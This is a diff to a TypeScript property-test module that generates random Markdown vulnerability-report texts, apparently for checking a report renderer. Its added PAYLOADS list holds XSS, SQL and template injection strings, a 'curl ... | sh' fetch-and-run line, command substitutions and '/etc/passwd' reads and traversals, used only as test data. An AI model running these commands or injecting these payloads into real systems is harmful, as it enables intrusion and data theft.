@@ -1,21 +1,32 @@
 /**
- * Generated report descriptions for property tests: the Markdown a researcher writes (template
- * headings, URLs, e-mails, domains, code, lists, tables, quotes, images, references, file links)
- * and the Markdown an editor or another client may produce from it (escapes, setext headings,
- * raw HTML, odd spacing), combined at random with runs of blocks of real reports (requests with
- * bearer tokens and JSON bodies, payloads, tables, tool output: test/fixtures/real/reports). Also
- * the CommonMark specification's examples.
+ * Generated report texts for property tests, one module for every test that draws them:
+ * - `description`: the Markdown a researcher writes (template headings, URLs, e-mails, domains,
+ *   code, lists, tables, quotes, images, references, file links) and the Markdown an editor or
+ *   another client may produce from it (escapes, setext headings, raw HTML, odd spacing), combined
+ *   at random with runs of blocks of real reports (support/report-texts.ts);
+ * - `reportWithPayloads`: a description with what researchers paste verbatim after it (payloads
+ *   with `<`, `>`, `[`, `]`, `|`, backslashes, template syntax, SQL, shell, JSON, redaction marks)
+ *   in running text, lists, quotes, tables and code fences;
+ * - the CommonMark specification's examples.
  */
 import fc from 'fast-check';
 import spec from 'commonmark-spec';
-import { TEMPLATE_HEADINGS } from '../../../src/shared/rules/description';
-import { reportExcerptArb } from '../../support/report-texts';
+import { TEMPLATE_HEADINGS } from '../../src/shared/rules/description';
+import { reportExcerptArb } from './report-texts';
 
 export const REPORT_ID = '1b4e28ba-2fa1-41d2-883f-0016d3cca427';
 export const FILE_IDS = [
   '6fa459ea-ee8a-4ca4-894e-db77e160355e',
   '16fd2706-8baf-433b-82eb-8c7fada847da',
 ] as const;
+
+/** Runs of parts drawn by weight (a weight of 3 is drawn three times as often as one of 1). */
+export function weightedRun<T>(
+  size: { minLength?: number; maxLength: number },
+  ...parts: (readonly [weight: number, part: fc.Arbitrary<T>])[]
+): fc.Arbitrary<T[]> {
+  return fc.array(fc.oneof(...parts.map(([weight, arbitrary]) => ({ weight, arbitrary }))), size);
+}
 
 /** The CommonMark 0.31.2 examples (tabs are written "→" in the specification). */
 export const COMMONMARK_EXAMPLES: { number: number; section: string; markdown: string }[] =
@@ -90,19 +101,15 @@ const typedToken = fc.constantFrom(
   '_',
 );
 
-const inline = fc
-  .array(fc.oneof({ weight: 3, arbitrary: word }, { weight: 2, arbitrary: typedToken }), {
-    minLength: 1,
-    maxLength: 8,
-  })
-  .chain((parts) =>
+const inline = weightedRun({ minLength: 1, maxLength: 8 }, [3, word], [2, typedToken]).chain(
+  (parts) =>
     fc
       .array(fc.constantFrom(' ', ' ', ' ', '', '\n', '  \n', '. ', ', '), {
         minLength: parts.length,
         maxLength: parts.length,
       })
       .map((seps) => parts.map((p, i) => p + (i < parts.length - 1 ? seps[i] : '')).join('')),
-  );
+);
 
 const heading = fc
   .tuple(
@@ -191,3 +198,86 @@ export const anyDescription = fc.oneof(
   { weight: 1, arbitrary: reportExcerptArb(4_000, 12) },
   { weight: 1, arbitrary: anyText },
 );
+
+/** What researchers paste verbatim into a report. */
+export const PAYLOADS = [
+  '<script>alert(document.domain)</script>',
+  '"><svg/onload=alert(1)>',
+  '<img src=x onerror=alert(1)>',
+  '{{7*7}}',
+  '${7*7}',
+  '#{7*7}',
+  "' OR 1=1--",
+  "admin'-- -",
+  '1; DROP TABLE users--',
+  '$(id)',
+  '`id`',
+  'curl -s https://x.com/a?b=1 | sh',
+  '; cat /etc/passwd',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  'C:\\Users\\me\\AppData',
+  '\\\\server\\share',
+  '{"role":"admin","ids":[1,2]}',
+  '[REDACTED:aws-access-key]',
+  '[REDACTED:github-pat]',
+  'a|b|c',
+  '<!-- x -->',
+  '%3Cscript%3E',
+  'javascript:alert(1)',
+  'https://x.com/?q=<b>&r=[1]',
+  'security@example.com',
+  '*/alert(1)/*',
+  '\\x3cscript\\x3e',
+  'a_b_c',
+  '~~x~~',
+] as const;
+
+const payload = fc.constantFrom(...PAYLOADS);
+const payloadWord = fc.constantFrom(
+  'Send',
+  'the',
+  'request',
+  'with',
+  'as',
+  'name',
+  'then',
+  'see',
+  'body:',
+);
+
+const payloadLine = weightedRun({ minLength: 1, maxLength: 7 }, [2, payloadWord], [1, payload]).map(
+  (parts) => parts.join(' '),
+);
+
+const payloadBlock = fc.oneof(
+  { weight: 4, arbitrary: payloadLine },
+  { weight: 1, arbitrary: payloadLine.map((l) => `- ${l}`) },
+  { weight: 1, arbitrary: payloadLine.map((l) => `> ${l}`) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(
+        fc.constantFrom('', 'http', 'sql', 'sh', 'json'),
+        fc.array(payload, { minLength: 1, maxLength: 3 }),
+      )
+      .map(([lang, lines]) => `\`\`\`${lang}\n${lines.join('\n')}\n\`\`\``),
+  },
+  {
+    weight: 1,
+    arbitrary: fc
+      .array(fc.tuple(payload, payload), { minLength: 1, maxLength: 3 })
+      .map((rows) =>
+        [
+          '| Input | Output |',
+          '| --- | --- |',
+          ...rows.map((r) => `| ${r.map((c) => c.replace(/\|/g, '\\|')).join(' | ')} |`),
+        ].join('\n'),
+      ),
+  },
+);
+
+/** A generated description with pasted payload blocks after it. */
+export const reportWithPayloads = fc
+  .tuple(description, fc.array(payloadBlock, { minLength: 1, maxLength: 4 }))
+  .map(([text, blocks]) => `${text.trimEnd()}\n\n${blocks.join('\n\n')}\n`.replace(/^\n+/, ''));
